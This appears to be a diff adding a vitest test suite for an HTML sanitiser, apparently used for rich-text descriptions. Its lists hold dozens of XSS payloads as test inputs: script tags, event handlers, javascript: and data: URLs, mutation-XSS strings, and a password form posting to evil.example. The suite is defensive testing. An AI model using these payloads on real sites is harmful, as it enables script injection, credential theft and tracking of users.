@@ -1,0 +1,217 @@
+import fc from 'fast-check'
+import { expect, test } from 'vitest'
+import { cleanDescription } from './clean-description.ts'
+import { cleanRichText } from './clean-rich-text.ts'
+
+/**
+ * Everything that may come out, written as a grammar: with a text that keeps it, no reader of HTML finds an element, an
+ * attribute or an address other than these.
+ */
+const safeText =
+  /^(?:[^<>]|<\/?(?:p|strong|em|u|s|code|pre|blockquote|ul|ol|li|h2|h3|h4)>|<(?:br|hr) \/>|<ol start="[1-9]\d{0,3}">|<a href="(?:https?|mailto):[^"<>\s]*" rel="noopener noreferrer nofollow" target="_blank">|<\/a>)*$/i
+
+/** Elements and attributes that run, load or listen. */
+const running = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<script\x20type="text/javascript">alert(1)</script >',
+  '<script>/*</script><script>*/alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="https://tracker.example/1.gif">',
+  '<img srcset="https://tracker.example/1.gif 1x" alt="x">',
+  '<picture><source srcset=x onerror=alert(1)><img></picture>',
+  '<p onclick="alert(1)">press me</p>',
+  '<p/onpointerover=alert(1)//>hover</p>',
+  '<strong style="position:fixed;inset:0">cover</strong>',
+  '<p style="background:url(https://tracker.example)">x</p>',
+  '<h2 id="root" class="modal">shadow</h2>',
+  '<a name="body">named</a>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<marquee onstart=alert(1)>x</marquee>',
+  '<body onload=alert(1)>x</body>',
+  '<input autofocus onfocus=alert(1)>',
+  '<select autofocus onfocus=alert(1)><option>x</select>',
+  '<button formaction="javascript:alert(1)" form="f">x</button>',
+  '<video src=x onerror=alert(1)></video>',
+  '<audio controls src="https://tracker.example/a.mp3"></audio>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>">fallback</iframe>',
+  '<object data="data:text/html,<script>alert(1)</script>">x</object>',
+  '<embed src="data:image/svg+xml;base64,PHN2Zz4=">',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<style>@import "//evil.example/x.css";</style>',
+  '<canvas id=c></canvas><dialog open>x</dialog>',
+]
+
+/** Addresses that are more than addresses. */
+const addresses = [
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  ' javascript:alert(1)',
+  'java\tscript:alert(1)',
+  'java\nscript:alert(1)',
+  'java&#9;script:alert(1)',
+  '&#106;avascript:alert(1)',
+  '&#x6A&#x61&#x76&#x61script:alert(1)',
+  '\u0001javascript:alert(1)',
+  'java\u200bscript:alert(1)',
+  'javascript&colon;alert(1)',
+  'javascript://example.org/%0aalert(1)',
+  'vbscript:msgbox(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'data:text/html;base64,PHNjcmlwdD4=',
+  'blob:https://example.org/1',
+  'file:///etc/passwd',
+  'ftp://example.org',
+  'filesystem:https://example.org/x',
+  'view-source:https://example.org',
+  'intent://scan/#Intent;scheme=zxing;end',
+  '//evil.example',
+  '/admin/users',
+  '?_method=DELETE',
+  '#top',
+  'https://exa mple.org',
+  'https://example.org/\u202egpj.exe',
+  'http://',
+  '',
+]
+
+/** What one reader takes for text and another for an element. */
+const twoFaced = [
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+  '<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style></p></svg>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>',
+  '<template><script>alert(1)</script></template>',
+  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
+  '<title></title><img src=x onerror=alert(1)></title>',
+  '<xmp></xmp><img src=x onerror=alert(1)></xmp>',
+  '<plaintext><img src=x onerror=alert(1)>',
+  '<noembed><img src="</noembed><img src=x onerror=alert(1)>"></noembed>',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<!-- --!><img src=x onerror=alert(1)> -->',
+  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
+  '<!doctype html [<!entity x "<img onerror=alert(1)>">]>&x;',
+  '&lt;img src=x onerror=alert(1)&gt;',
+  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
+  '<p title="<!--">x</p><p title="--><img src=x onerror=alert(1)>">y</p>',
+  '<a href="https://example.org/"onmouseover="alert(1)">x</a>',
+  '<a href=\'https://example.org/"onmouseover="alert(1)\'>x</a>',
+  '<a href=`https://example.org` onclick=alert(1)>x</a>',
+  '<p><table><td><p onclick=alert(1)>x</table>',
+  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
+  '<isindex action=javascript:alert(1) type=image>',
+  '<\u0000script>alert(1)</script>',
+  '<scrıpt>alert(1)</scrıpt>',
+  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
+  '<p <script>alert(1)</script>>',
+  '<<script>script>alert(1)<</script>/script>',
+]
+
+test.each(running)('X1 %s does nothing', (payload) => {
+  expectSafe(payload)
+  expectSafe(`<p>before ${payload} after</p>`)
+})
+
+test.each(addresses)('X2 the address %j leads nowhere', (address) => {
+  for (const quoted of [`"${address}"`, `'${address}'`]) {
+    const cleaned = expectSafe(`<a href=${quoted}>words</a>`)
+    expect(cleaned).not.toContain('<a')
+    expect(cleaned).toContain('words')
+  }
+})
+
+test.each(twoFaced)('X3 %s stays harmless, however often it is read', (payload) => {
+  expectSafe(payload)
+  expectSafe(`<ul><li>${payload}</li></ul>`)
+})
+
+test('X1 the corpus is as large as it says', () => {
+  expect(new Set([...running, ...addresses, ...twoFaced]).size).toBeGreaterThanOrEqual(60)
+})
+
+test('X2 a link opens apart and tells its target nothing', () => {
+  for (const address of ['https://example.org/?a=1&b=2', 'http://example.org', 'mailto:help@example.org'])
+    expect(cleanRichText(`<a href="${address}" target="_self" rel="opener">x</a>`)).toBe(
+      `<a href="${address.replace('&', '&amp;')}" rel="noopener noreferrer nofollow" target="_blank">x</a>`,
+    )
+})
+
+test('what an author can write stays as it was written', () => {
+  const written = [
+    '<h2>Title</h2><p>A <strong>bold</strong>, <em>slanted</em>, <u>underlined</u>, <s>struck</s> <code>word</code>.</p>',
+    '<ul><li><p>one</p></li></ul><ol start="3"><li><p>three</p></li></ol><blockquote><p>said</p></blockquote>',
+    '<pre><code>if (a &lt; b &amp;&amp; c &gt; d) {\n  go()\n}</code></pre><hr /><p>line<br />break</p><h3>3</h3><h4>4</h4>',
+    '<p>Élève “quoted” 🚩 日本語 עברית</p>',
+  ]
+  for (const html of written) expect(cleanRichText(html)).toBe(html)
+})
+
+test('what it does not know loses its marks and keeps its words', () => {
+  expect(cleanRichText('<div><h1>Big</h1><table><tr><td>cell</td></tr></table><font color=red>red</font></div>')).toBe(
+    'Bigcellred',
+  )
+  expect(cleanRichText('<b>bold</b> <i>slanted</i> <del>gone</del>')).toBe(
+    '<strong>bold</strong> <em>slanted</em> <s>gone</s>',
+  )
+})
+
+test('X3 whatever is typed comes out safe, and cleaning it again changes nothing', () => {
+  const names = 'p a b svg math style script noscript template textarea title iframe table td form ol li pre xmp'.split(
+    ' ',
+  )
+  const tag = fc.constantFrom(...names)
+  const piece = fc.oneof(
+    tag.map((name) => `<${name}>`),
+    tag.map((name) => `</${name}>`),
+    fc.tuple(tag, fc.string()).map(([name, value]) => `<${name} href="${value}" onclick=x>`),
+    fc.constantFrom('<', '>', '"', "'", '&', '&lt;', '&#60', '<!--', '-->', ']]>', '<![CDATA[', '/', '=', '\0', '`'),
+    fc.webUrl().map((url) => `<a href="${url}">`),
+    fc.string({ unit: 'binary' }),
+  )
+  fc.assert(
+    fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
+      expectSafe(pieces.join(''))
+    }),
+    { numRuns: 1_000 },
+  )
+})
+
+test('a text of which nothing remains is told as missing', () => {
+  for (const html of [
+    '<script>alert(1)</script>',
+    '<img src=x>',
+    '<p>&nbsp;</p>',
+    '<hr>',
+    '<!-- words -->',
+    '<svg>x</svg>',
+  ])
+    expect(() => cleanDescription(html)).toThrow(
+      expect.objectContaining({ code: 'invalid-input', errors: { description: 'Description is required' } }),
+    )
+})
+
+test('a text that cleaning makes too long to be edited again is told as too long', () => {
+  expect(() => cleanDescription('&'.repeat(50_000))).toThrow(
+    expect.objectContaining({ errors: { description: 'Description is too long' } }),
+  )
+})
+
+test('D5 the longest text of the worst kind takes no time', () => {
+  for (const part of ['<p>', '<', '&', '<a href="https://x">', '<svg>', '<!--', '<iframe>', '<li><ul>', '</p>']) {
+    const began = performance.now()
+    cleanRichText(part.repeat(Math.floor(50_000 / part.length)))
+    expect(performance.now() - began).toBeLessThan(2_000)
+  }
+})
+
+function expectSafe(html: string): string {
+  const cleaned = cleanRichText(html)
+  expect(cleaned).toMatch(safeText)
+  expect(cleanRichText(cleaned)).toBe(cleaned)
+  return cleaned
+}
